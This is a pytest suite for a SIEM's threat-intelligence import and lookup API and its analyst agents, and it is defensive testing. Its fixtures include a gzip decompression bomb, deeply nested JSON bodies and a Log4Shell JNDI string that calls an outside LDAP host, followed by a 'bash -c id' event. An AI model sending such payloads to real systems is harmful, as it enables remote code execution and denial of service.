"""Imported intelligence through siem's API: taken in, told with its state, looked up, forgotten; hostile feeds too."""

from __future__ import annotations

import asyncio
import gzip
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from typing import Any

import orjson
import pytest
import pytest_asyncio

from services.agents.roster.threat_intel.agent import ThreatIntel
from services.agents.roster.vulnerability_analyst.agent import VulnerabilityAnalyst
from shared.clock import new_id
from shared.contracts.common import Observable, PageQuery
from shared.contracts.constants import Endpoint
from shared.contracts.intel import (
    DELETE_INTEL_SOURCE,
    IMPORT_INTEL,
    LIST_INDICATORS,
    LIST_INTEL_SOURCES,
    LIST_VULNERABILITIES,
    LOOKUP_INTEL,
    IntelImportQuery,
    IntelLookup,
    IntelMatches,
    IntelName,
    IntelQuery,
    IntelReport,
    VulnerabilityQuery,
)
from shared.contracts.intel_methods import ExposureRequest, IndicatorRequest
from shared.errors import AuroraError
from tests import feeds
from tests.siem import Siem, siem
from tests.stack import Servers, data_folder
from tests.unit.agents.agent_kit import work

NOW = datetime(2026, 6, 1, tzinfo=UTC)


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def running(servers: Servers) -> AsyncIterator[Siem]:
    """One siem for this file; tests keep apart by values and sources of their own."""
    with data_folder() as folder:
        async with siem(servers, folder) as running:
            yield running


def own() -> str:
    """A name that no other test uses."""
    return new_id().replace("-", "")[-16:]


async def call(running: Siem, endpoint: Endpoint[Any, Any, Any], **arguments: Any) -> Any:
    async with running.client() as client:
        return await client.call(endpoint, **arguments)


async def bring(running: Siem, body: bytes, source: str, **query: Any) -> IntelReport:
    report: IntelReport = await call(running, IMPORT_INTEL, query=IntelImportQuery(source=source, **query), body=body)
    return report


async def lookup(running: Siem, *observables: tuple[str, str], at: datetime = NOW) -> IntelMatches:
    asked = IntelLookup(observables=[Observable(*item) for item in observables], at=at)
    found: IntelMatches = await call(running, LOOKUP_INTEL, body=asked)
    return found


async def refused(running: Siem, body: bytes, **query: Any) -> str:
    with pytest.raises(AuroraError) as caught:
        await bring(running, body, own(), **query)
    return caught.value.code.code


async def test_an_indicator_is_found_with_its_names_techniques_confidence_and_marking(running: Siem) -> None:
    name = own()
    body = feeds.bundle(
        feeds.indicator(
            f"[domain-name:value = '{name}.example']", confidence=85, object_marking_refs=[feeds.AMBER], labels=["c2"]
        )
    )
    report = await bring(running, body, name)
    assert (report.format, report.imported, report.skipped) == ("stix", 1, 0)
    (match,) = (await lookup(running, ("domain", f"{name.upper()}[.]example"))).matches
    found = match.indicator
    assert (match.via, found.status, found.source, found.confidence, found.tlp) == (
        "exact",
        "current",
        name,
        85,
        "amber",
    )
    assert found.names == [IntelName("malware", "Duskrat"), IntelName("threat-actor", "Quiet Heron")]
    assert (found.techniques, found.tags) == (["T1071.001"], ["c2"])


async def test_a_name_below_a_domain_an_address_in_a_network_and_the_host_of_a_url_are_met(running: Siem) -> None:
    name = own()
    tens = [str(int(name[i : i + 2], 16)) for i in (0, 2)]
    network = f"10.{tens[0]}.{tens[1]}"
    body = f"{name}-a.com\n{network}.0/24\nhttp://{name}-b.com/gate.php\n".encode()
    assert (await bring(running, body, name)).imported == 3
    found = await lookup(
        running,
        ("domain", f"deep.below.{name}-a.com"),
        ("ip", f"{network}.77"),
        ("url", f"https://www.{name}-a.com/x"),
        ("domain", f"{name}-b.com"),
        ("url", f"http://{name}-b.com/gate.php?id=7"),
        ("email", f"eve@{name}-a.com"),
    )
    met = sorted((match.observable.value, match.via) for match in found.matches if match.indicator.source == name)
    assert met == sorted(
        [
            (f"deep.below.{name}-a.com", "parent_domain"),
            (f"{network}.77", "network"),
            (f"https://www.{name}-a.com/x", "url_host"),
            (f"{name}-b.com", "host_of_url"),
            (f"http://{name}-b.com/gate.php?id=7", "exact"),
            (f"eve@{name}-a.com", "parent_domain"),
        ]
    )


async def test_what_was_revoked_or_has_expired_is_told_as_such_at_the_time_asked_for(running: Siem) -> None:
    name = own()
    body = feeds.bundle(
        feeds.indicator(f"[domain-name:value = 'r-{name}.com']", revoked=True),
        feeds.indicator(f"[domain-name:value = 'e-{name}.com']", valid_until="2026-05-01T00:00:00Z"),
    )
    await bring(running, body, name)
    asked = (("domain", f"r-{name}.com"), ("domain", f"e-{name}.com"))
    now = {match.observable.value[0]: match.indicator.status for match in (await lookup(running, *asked)).matches}
    assert now == {"r": "revoked", "e": "expired"}
    earlier = await lookup(running, asked[1], at=datetime(2026, 4, 1, tzinfo=UTC))
    assert [match.indicator.status for match in earlier.matches] == ["current"]


async def test_a_pattern_of_two_values_is_complete_only_when_both_were_seen(running: Siem) -> None:
    name = own()
    pattern = f"[file:name = '{name}.dll' AND domain-name:value = '{name}.com']"
    await bring(running, feeds.bundle(feeds.indicator(pattern)), name)
    alone = await lookup(running, ("domain", f"{name}.com"))
    both = await lookup(running, ("domain", f"{name}.com"), ("file", f"{name}.DLL"))
    assert [match.complete for match in alone.matches] == [False]
    assert [match.complete for match in both.matches] == [True, True]


async def test_an_import_again_says_what_is_new_changed_and_as_before(running: Siem) -> None:
    name = own()
    await bring(running, f"indicator,confidence\na.{name}.com,50\nb.{name}.com,50\n".encode(), name)
    again = await bring(
        running, f"indicator,confidence\na.{name}.com,50\nb.{name}.com,90\nc.{name}.com,1\n".encode(), name
    )
    assert (again.imported, again.updated, again.unchanged, again.format) == (1, 1, 1, "csv")
    (match,) = (await lookup(running, ("domain", f"b.{name}.com"))).matches
    assert match.indicator.confidence == 90


async def test_events_of_misp_bring_context_apart_from_what_is_meant_for_detection(running: Siem) -> None:
    name = own()
    body = feeds.misp_event(
        {"type": "domain", "value": f"{name}.com"},
        {"type": "domain", "value": f"c-{name}.com", "to_ids": False},
        {"type": "filename|sha256", "value": f"{name}.exe|{name * 4}"},
        {"type": "pattern-in-file", "value": "abc"},
        tags=('misp-galaxy:threat-actor="APT28"', "tlp:green", 'misp:confidence-level="usually-confident"'),
    )
    report = await bring(running, body, name)
    assert (report.imported, report.skipped) == (3, 1)
    assert report.reasons == {"attributes of type pattern-in-file can't be looked up": 1}
    found = await lookup(running, ("domain", f"{name}.com"), ("domain", f"c-{name}.com"), ("hash", (name * 4).upper()))
    assert [match.indicator.status for match in found.matches] == ["current", "context", "current"]
    assert IntelName("threat-actor", "APT28") in found.matches[0].indicator.names
    assert {(match.indicator.tlp, match.indicator.confidence) for match in found.matches} == {("green", 75)}


async def test_an_imported_list_of_benign_values_is_told_beside_the_matches(running: Siem) -> None:
    name = own()
    body = orjson.dumps({"name": f"Busy sites {name}", "type": "hostname", "list": [f".{name}.com", f"{name}.org"]})
    assert (await bring(running, body, name)).format == "warninglist"
    found = await lookup(running, ("domain", f"www.{name}.com"))
    assert found.matches == []
    assert [(item.list, item.via) for item in found.benign] == [(f"Busy sites {name}", "parent_domain")]


async def test_exploited_vulnerabilities_are_listed_and_looked_up(running: Siem) -> None:
    name, cve = own(), f"CVE-2026-{int(own(), 16) % 10**9:09d}"
    assert (await bring(running, feeds.kev(cve), name)).imported == 1
    (known,) = (await lookup(running, ("cve", cve.lower()))).vulnerabilities
    assert (known.vendor, known.product, known.exploited, known.ransomware) == ("Acme", "Gateway", True, True)
    page = await call(running, LIST_VULNERABILITIES, query=VulnerabilityQuery(q="acme gate", source=name))
    assert [(item.cve, str(item.due)) for item in page.items] == [(cve, "2026-02-24")]


async def test_indicators_are_listed_in_pages_and_a_source_is_forgotten_whole(running: Siem) -> None:
    name = own()
    await bring(running, "".join(f"x{n}.{name}.com\n" for n in range(5)).encode(), name)
    first = await call(running, LIST_INDICATORS, query=IntelQuery(source=name, limit=3))
    rest = await call(running, LIST_INDICATORS, query=IntelQuery(source=name, limit=3, cursor=first.next_cursor))
    values = {item.value for item in [*first.items, *rest.items]}
    assert len(values) == 5
    assert rest.next_cursor is None
    part = await call(running, LIST_INDICATORS, query=IntelQuery(source=name, q=f"X3.{name}"))
    whole = await call(running, LIST_INDICATORS, query=IntelQuery(source=name, value=f"hxxp://x3[.]{name}.com"))
    assert ([item.value for item in part.items], whole.items) == ([f"x3.{name}.com"], [])
    sources = await call(running, LIST_INTEL_SOURCES, query=PageQuery(limit=200))
    assert [(item.entries, item.imports) for item in sources.items if item.name == name] == [(5, 1)]
    await call(running, DELETE_INTEL_SOURCE, path={"name": name})
    assert (await lookup(running, ("domain", f"x1.{name}.com"))).matches == []
    with pytest.raises(AuroraError, match="AURORA-4040"):
        await call(running, DELETE_INTEL_SOURCE, path={"name": name})


async def test_two_imports_of_one_source_at_once_both_arrive(running: Siem) -> None:
    name = own()
    bodies = [f"{part}.{name}.com\nboth.{name}.com\n".encode() for part in ("a", "b")]
    reports = await asyncio.gather(*(bring(running, body, name) for body in bodies))
    assert sum(report.imported for report in reports) == 3


async def test_imports_that_would_pile_up_are_told_to_come_back(running: Siem) -> None:
    name = own()
    bodies = ["".join(f"{part}-{n}.{name}.com\n" for n in range(3000)).encode() for part in range(10)]
    answers = await asyncio.gather(*(bring(running, body, name) for body in bodies), return_exceptions=True)
    taken = [answer for answer in answers if isinstance(answer, IntelReport)]
    refused = [answer for answer in answers if isinstance(answer, AuroraError)]
    assert len(taken) + len(refused) == len(bodies)
    assert taken
    assert {(error.code.code, error.retry_after is not None) for error in refused} <= {("AURORA-4290", True)}
    assert sum(report.imported for report in taken) == 3000 * len(taken)


async def test_what_brings_nothing_is_named_and_the_rest_is_taken(running: Siem) -> None:
    name = own()
    body = b"\xef\xbb\xbf" + feeds.bundle(
        feeds.indicator(f"[domain-name:value = '{name}.com']"),
        feeds.indicator("[file:size > 5]"),
        feeds.indicator("[url:value = 'http://" + "a" * 20_000 + "']"),
        feeds.indicator("[" * 5000),
        feeds.indicator("[file:name = 'a\x00b' AND domain-name:value = 'x.example']"),
        {"type": "indicator", "id": "indicator--1", "pattern": 5},
        feeds.indicator("rule x { condition: true }", pattern_type="yara"),
    )
    report = await bring(running, body, name)
    assert (report.imported, report.skipped) == (1, 6)
    assert len(report.problems) == 6
    assert sum(report.reasons.values()) == 6


@pytest.mark.parametrize(
    ("body", "code"),
    [
        pytest.param(b'{"type": "bundle", "objects": ' + b"[" * 200_000, "AURORA-4000", id="deep"),
        pytest.param(b'{"Event": {"Attribute": [' + b'{"a":' * 100_000, "AURORA-4000", id="deep-objects"),
        pytest.param(b'{"hello": 1}', "AURORA-4220", id="unknown"),
        pytest.param(b'{"type": "bundle"', "AURORA-4000", id="cut-off"),
        pytest.param(b"[5, 6]", "AURORA-4220", id="numbers"),
        pytest.param(b'{"type": "bundle", "objects": "none"}', "AURORA-4220", id="wrong-type"),
        pytest.param(b" \n", "AURORA-4220", id="nothing"),
        pytest.param(b"\xff\xfe" + "a.example".encode("utf-16-le") + b"x", "AURORA-4000", id="half-a-character"),
    ],
)
async def test_a_hostile_or_broken_body_is_refused(running: Siem, body: bytes, code: str) -> None:
    assert await refused(running, body) == code


async def test_a_refusal_names_the_field_or_the_place(running: Siem) -> None:
    for body, told in (
        (b'{"type": "bundle", "objects": "none"}', "body.objects"),
        (b'{"type": "bundle", "objects": [}', "byte 31"),
    ):
        with pytest.raises(AuroraError) as caught:
            await bring(running, body, own())
        assert told in str(caught.value.detail)


async def test_what_editors_of_windows_write_is_read(running: Siem) -> None:
    name = own()
    report = await bring(running, f"indicator,type\r\n{name}.com,domain\r\n".encode("utf-16"), name)
    assert (report.format, report.imported, report.skipped) == ("csv", 1, 0)


async def test_everything_under_a_url_meets_it_and_nothing_beside_it(running: Siem) -> None:
    name = own()
    await bring(running, feeds.bundle(feeds.indicator(f"[url:value LIKE 'http://{name}.com/gate/%']")), name)
    found = await lookup(
        running,
        ("url", f"http://{name}.com/gate/a/b.php?x=1"),
        ("url", f"http://{name}.com/gate/"),
        ("url", f"http://{name}.com/other/a"),
        ("url", f"https://{name}.com/gate/a"),
    )
    assert [(item.observable.value, item.via) for item in found.matches] == [
        (f"http://{name}.com/gate/a/b.php?x=1", "url_prefix"),
        (f"http://{name}.com/gate/", "url_prefix"),
    ]


async def test_a_small_body_that_unpacks_to_gigabytes_is_refused(running: Siem) -> None:
    packed = gzip.compress(b"\n" * (80 * 1024 * 1024), 1)
    with pytest.raises(AuroraError) as caught:
        await call(
            running,
            IMPORT_INTEL,
            query=IntelImportQuery(source=own()),
            body=packed,
            headers={"Content-Encoding": "gzip", "Content-Type": "text/plain"},
        )
    assert caught.value.code.code == "AURORA-4130"


async def test_bytes_that_are_no_text_bring_nothing_and_break_nothing(running: Siem) -> None:
    name = own()
    report = await bring(running, bytes(range(256)) * 40 + b"\n" + f"{name}.com\n".encode(), name, format="text")
    assert report.imported == 1
    report = await bring(running, b'"' + b"a," * 200_000, name, format="csv")
    assert report.imported == 0


async def test_a_thousand_observables_are_looked_up_at_once_and_no_more(running: Siem) -> None:
    name = own()
    await bring(running, f"x7.{name}.com\n".encode(), name)
    found = await lookup(running, *(("domain", f"x{n}.{name}.com") for n in range(1000)))
    assert [match.observable.value for match in found.matches] == [f"x7.{name}.com"]
    assert found.indicators >= 1
    with pytest.raises(AuroraError, match="AURORA-4220"):
        await lookup(running, *(("domain", "a.com") for _ in range(1001)))


async def test_the_specialist_says_what_is_known_of_indicators_and_cites_it(running: Siem) -> None:
    name = own()
    body = feeds.bundle(
        feeds.indicator(f"[domain-name:value = '{name}.com']", confidence=90),
        feeds.indicator(f"[domain-name:value = 'old-{name}.com']", valid_until="2026-05-01T00:00:00Z"),
    )
    await bring(running, body, name)
    asked = [Observable("domain", value) for value in (f"{name}.com", f"old-{name}.com", f"none-{name}.com")]
    async with running.client() as client:
        at_work = work(siem=client)
        report = await ThreatIntel().lookup_indicators(IndicatorRequest(observables=asked, at=NOW), at_work)
    assert [item.standing for item in report.indicators] == ["malicious", "noted", "unknown"]
    assert report.indicators[0].names == ["Duskrat", "Quiet Heron"]
    assert report.indicators[0].weight >= 0.8
    assert report.indicators[0].citation in {citation.id for citation in report.citations}
    assert report.stored > 0


async def test_the_specialist_tells_a_try_from_one_that_worked(running: Siem) -> None:
    name = own()
    tried, worked = f"web-{name}", f"app-{name}"
    shared = {"event.category": ["web"], "http.response.status_code": 200}
    events = [
        {
            "host.name": host,
            "url.original": "/?x=${jndi:ldap://45.33.32.156/a}",
            "message": f"GET jndi ldap {host}",
            **shared,
        }
        for host in (tried, worked)
    ]
    events.append(
        {
            "host.name": worked,
            "process.parent.name": "java",
            "process.name": "bash",
            "process.command_line": "bash -c id",
            "event.category": ["process"],
            "message": "execve",
        }
    )
    stamped = [{"@timestamp": "2026-05-30T10:00:00Z", **event} for event in events]
    status, _, _ = await running.ingest(stamped, query={"source": name})
    assert status == 202
    await bring(running, feeds.kev("CVE-2021-44228"), name)
    outcomes = {}
    async with running.client() as client:
        for host in (tried, worked):
            asked = ExposureRequest(cves=["CVE-2021-44228"], host=host, until=NOW)
            (found,) = (await VulnerabilityAnalyst().assess_exposure(asked, work(siem=client))).exposures
            assert found.known_exploited
            assert found.citations
            outcomes[host] = found.outcome
    assert outcomes == {tried: "attempted", worked: "succeeded"}
